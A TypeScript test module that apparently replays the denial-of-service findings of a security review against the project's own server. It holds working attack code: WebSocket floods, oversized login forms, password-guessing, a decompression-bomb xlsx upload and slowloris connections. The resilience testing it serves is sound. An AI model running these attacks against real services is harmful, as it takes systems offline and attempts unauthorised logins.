import { request } from 'node:http';
import { connect } from 'node:net';
import { forgeArchive } from '@server/imports/testing/forgeArchive';
import { WebSocket } from 'ws';

/** The server that is attacked, and the account that an attack may use. */
export interface Target {
  readonly url: string;
  readonly scheme: string;
  /** The cookie of a signed-in viewer. */
  readonly viewer: string;
}

/** Attacks a server until `signal` aborts. */
type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

/** Requests the state since one change of client 200: seven bytes, answered with nearly the whole scheme. */
const ASK_STATE = Uint8Array.of(0, 0, 4, 1, 0xc8, 1, 0);
const WORKERS = 20;

/** The attacks of the review of 2026-11-30, by their number there. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  nothing: (_target, signal) => aborted(signal),
  V2_stateRequests: floodSockets(20, 1_900, () => ASK_STATE),
  V14_presence: floodSockets(15, 200, presence),
  sockets: floodSockets(500, 0, () => ASK_STATE),
  V3_longForms: async ({ url }, signal) => {
    const body = Buffer.alloc(100_000_000, 'a=1&');
    await repeat(5, signal, () =>
      send(url, '/login', {
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-length': body.length },
        body,
      }),
    );
  },
  V4_signIns: async ({ url }, signal) => {
    let n = 0;
    await repeat(40, signal, () => {
      n++;
      return send(url, '/login', {
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: Buffer.from(`username=nguoi-${n % 300}&password=sai-mat-khau`),
      });
    });
  },
  V9_hiddenParts: async ({ url, scheme, viewer }, signal) => {
    // A part of 200 MB that packs to 200 kB, and a directory that says it is empty.
    const data = new Uint8Array(200_000_000);
    const central = { flags: 8, packedSize: 0, size: 0, crc: 0 };
    const body = forgeArchive([{ name: 'xl/sharedStrings.xml', data, local: { flags: 8 }, central }]);
    await repeat(WORKERS, signal, () =>
      send(url, `/schemes/${scheme}/imports/sheets?name=a.xlsx`, {
        headers: {
          cookie: viewer,
          origin: url,
          'content-type': 'application/octet-stream',
          'content-length': body.length,
        },
        body,
      }),
    );
  },
  V11_workbooks: async ({ url, scheme, viewer }, signal) => {
    await repeat(40, signal, () =>
      send(url, `/schemes/${scheme}/workbook.xlsx`, {
        headers: { cookie: viewer, origin: url, 'content-type': 'application/x-www-form-urlencoded' },
        body: Buffer.alloc(0),
      }),
    );
  },
  shortPages: async ({ url, scheme, viewer }, signal) => {
    await repeat(40, signal, () =>
      send(url, `/schemes/${scheme}/workbook.xlsx`, { method: 'GET', headers: { cookie: viewer } }),
    );
  },
  pages: async ({ url, scheme, viewer }, signal) => {
    await repeat(WORKERS, signal, () =>
      send(url, `/schemes/${scheme}`, { method: 'GET', headers: { cookie: viewer } }),
    );
  },
  slowRequests: async ({ url }, signal) => {
    const { hostname, port } = new URL(url);
    const sockets = Array.from({ length: 800 }, () => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {
        // The server has closed it.
      });
      socket.write('POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n');
      return socket;
    });
    await aborted(signal);
    for (const socket of sockets) socket.destroy();
  },
};

/** Opens sockets as the viewer. Each sends `count` frames at once, and is opened again when it was closed. */
function floodSockets(sockets: number, count: number, frame: (i: number) => Uint8Array): Attack {
  return async ({ url, scheme, viewer }, signal) => {
    await repeat(sockets, signal, async () => {
      const socket = new WebSocket(`${url.replace('http', 'ws')}/sync/${scheme}`, {
        headers: { cookie: viewer },
        perMessageDeflate: false,
      });
      socket.on('error', () => {
        // It then closes.
      });
      socket.on('open', () => {
        for (let i = 0; i < count; i++) socket.send(frame(i));
      });
      const closed = new Promise<void>((done) => socket.once('close', () => done()));
      await Promise.race([closed, aborted(signal)]);
      socket.terminate();
      await pause(100, signal);
    });
  };
}

/** A presence frame of nearly 4 kB that differs from the last. */
function presence(i: number): Uint8Array {
  const state = Buffer.from(JSON.stringify({ at: i, text: 'x'.repeat(3_800) }));
  const update = Buffer.concat([Buffer.from([1, 7, ...varUint(i + 1), ...varUint(state.length)]), state]);
  return Buffer.concat([Buffer.from([1, ...varUint(update.length)]), update]);
}

function varUint(n: number): number[] {
  const bytes: number[] = [];
  let rest = n;
  while (rest > 127) {
    bytes.push(128 | (rest & 127));
    rest >>>= 7;
  }
  return [...bytes, rest];
}

interface Sent {
  readonly method?: string;
  readonly headers: Readonly<Record<string, string | number>>;
  readonly body?: Buffer;
}

/** Sockets of `send` with a listener for errors; the agent uses them again. */
const WATCHED = new WeakSet<object>();

/** Sends a request and reads its answer; a connection that breaks is an answer too. */
function send(url: string, path: string, { method = 'POST', headers, body }: Sent): Promise<void> {
  return new Promise((done) => {
    const sent = request(url + path, { method, headers }, (response) => {
      response.resume().on('close', done);
    });
    sent.on('error', () => done());
    sent.on('socket', (socket) => {
      if (WATCHED.has(socket)) return;
      WATCHED.add(socket);
      socket.on('error', () => {
        // The server answered and cut the connection while the body was still being sent: the request does not report that.
      });
    });
    sent.end(body);
  });
}

/** Repeats an act in `workers` parallel loops until `signal` aborts. */
async function repeat(workers: number, signal: AbortSignal, act: () => Promise<void>): Promise<void> {
  const work = async () => {
    while (!signal.aborted) await Promise.race([act(), aborted(signal)]);
  };
  await Promise.all(Array.from({ length: workers }, work));
}

function aborted(signal: AbortSignal): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((done) => signal.addEventListener('abort', () => done(), { once: true }));
}

async function pause(ms: number, signal: AbortSignal): Promise<void> {
  await Promise.race([new Promise((done) => setTimeout(done, ms)), aborted(signal)]);
}
